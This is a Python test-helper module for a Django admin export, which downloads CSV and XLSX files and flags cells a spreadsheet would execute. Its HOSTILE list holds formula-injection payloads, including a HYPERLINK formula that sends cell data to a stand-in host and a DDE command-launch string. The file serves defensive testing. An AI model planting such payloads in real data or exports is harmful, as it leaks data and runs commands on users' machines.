"""Downloading an admin export the way the export page does (POST the format, the change
list's filters in the query string) and reading it back: the CSV with the csv module, the
XLSX with openpyxl."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

from django.urls import reverse

# The export page's format choice, in the order mentoring.exports.EXPORT_FORMATS offers them.
FORMAT = {"csv": "0", "xlsx": "1"}
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Text a spreadsheet would run (OWASP): the first character, or after leading white space.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
)


def export_url(name: str, query: dict | None = None) -> str:
    """``name`` is "<app_label>_<model_name>"."""
    url = reverse(f"admin:{name}_export")
    return f"{url}?{urlencode(query, doseq=True)}" if query else url


def export(client, name: str, fmt: str = "csv", query: dict | None = None, **data):
    """POST the export form: the file, or the page again with its errors."""
    return client.post(export_url(name, query), {"format": FORMAT[fmt], "resource": "0", **data})


def content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    assert "attachment" in response["Content-Disposition"]
    body = content(response)
    assert body.startswith("\ufeff".encode()), "a CSV export starts with the byte order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def csv_dicts(response) -> list[dict[str, str]]:
    header, *rows = csv_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_sheet(response):
    """The first sheet of the downloaded workbook (openpyxl), formulas as written."""
    from openpyxl import load_workbook

    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_TYPE
    assert ".xlsx" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(content(response))).active


def xlsx_rows(response) -> list[list]:
    return [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]


def xlsx_dicts(response) -> list[dict]:
    header, *rows = xlsx_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def formula_cells_csv(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(DANGEROUS) or cell.lstrip().startswith(("=", "+", "-", "@"))
    ]


def formula_cells_xlsx(sheet) -> list[str]:
    """Cells openpyxl would write or read as a formula, or text a spreadsheet would run."""
    bad = []
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                bad.append(f"{cell.coordinate}: formula {cell.value!r}")
            elif isinstance(cell.value, str) and (
                cell.value.startswith(DANGEROUS)
                or cell.value.lstrip().startswith(("=", "+", "-", "@"))
            ):
                bad.append(f"{cell.coordinate}: {cell.value!r}")
    return bad
